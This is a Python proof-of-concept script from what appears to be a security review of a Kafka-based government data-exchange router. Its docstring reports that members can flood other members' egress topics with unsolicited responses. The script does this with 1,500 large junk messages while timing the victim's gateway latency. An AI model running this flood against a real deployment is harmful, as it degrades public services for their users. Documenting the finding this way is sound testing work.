"""Finding: any provider member can write without limit onto ANY member's egress topic by
sending "responses" nobody asked for. The router routes a response when its service is the
sender's (or a unit's) and its client is registered: no grant between the two, no request it
answers (no correlation check), no quota ("Responses are not subject to grants or quotas").
Here a telecom (VN:COM:0100100079, limited to 200 requests/s, no grant to call any province)
writes 1,500 responses of 700 KiB to H40's one-stop shop, which
never called it. Meanwhile H40's own gateway calls to the population database are timed: the
gateway reads answers with ONE consumer for every caller, and must fetch through the junk.

Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f2_unsolicited_responses.py [N] [KiB]
"""
import statistics, subprocess, sys, threading, time, uuid
from confluent_kafka import TopicPartition, Consumer
from common import *

N = int(sys.argv[1]) if len(sys.argv) > 1 else 1500
SIZE = int(sys.argv[2]) * 1024 if len(sys.argv) > 2 else 700 * 1024
ATTACKER = "0100100079"
A_TOPIC = f"ndxp.in.{ATTACKER}"
A_SERVICE = f"VN:COM:{ATTACKER}:xacthuc:thong-bao-thue-bao:v1"
VICTIM_CLIENT = "VN:GOV:000.00.00.H40:motcua"
V_EGRESS = "ndxp.out.000.00.00.H40"

def egress_end():
    c = Consumer({"bootstrap.servers": BOOT, "group.id": "x", "isolation.level": "read_uncommitted"})
    tot = sum(c.get_watermark_offsets(TopicPartition(V_EGRESS, p), timeout=10)[1] for p in range(3))
    c.close(); return tot

def sample(lat, stop):
    while not stop.is_set():
        lat.append(gw_call("VN/GOV/000.00.00.H40/motcua"))
        time.sleep(0.2)

def summary(lat):
    ok = [ms for c, ms in lat if c == 200]
    return f"{len(lat)} calls, {len(ok)} ok, median {statistics.median(ok) if ok else '-'} ms, max {max(ms for _, ms in lat)} ms, codes {sorted(set(c for c, _ in lat), key=str)}"

base = []; stop = threading.Event()
t = threading.Thread(target=sample, args=(base, stop)); t.start(); time.sleep(8); stop.set(); t.join()
print("before: H40 gateway calls:", summary(base), "| router RSS", rss("router"), "MB, gateway RSS", rss("gateway"), "MB")
e0 = egress_end()
tag = uuid.uuid4().hex[:8]
during = []; stop = threading.Event()
t = threading.Thread(target=sample, args=(during, stop)); t.start()
p = producer(**{"linger.ms": 20, "batch.size": 4 * 1024 * 1024})
val = b"x" * SIZE
t0 = time.time()
for i in range(N):
    p.produce(A_TOPIC, key=f"{ATTACKER}-{i}".encode(), value=val, headers=hdrs({
        "ndxp-id": f"{tag}-{i}", "ndxp-kind": "response", "ndxp-client": VICTIM_CLIENT,
        "ndxp-service": A_SERVICE, "ndxp-correlation-id": str(uuid.uuid4())}))
    p.poll(0)
p.flush()
print(f"attacker wrote {N} x {SIZE//1024} KiB unsolicited responses in {time.time()-t0:.1f} s")
# wait until the router has put them all on the victim's egress topic
for _ in range(120):
    if egress_end() - e0 >= N: break
    time.sleep(1)
print(f"routed to {V_EGRESS}: {egress_end()-e0} records in {time.time()-t0:.1f} s since the flood began")
time.sleep(2); stop.set(); t.join()
print("during: H40 gateway calls:", summary(during), "| router RSS", rss("router"), "MB, gateway RSS", rss("gateway"), "MB")
time.sleep(5)
print(sql(f"SELECT outcome, count() n, sum(payload_size) bytes FROM ndxp.ledger WHERE startsWith(message_id,'{tag}') GROUP BY outcome"))
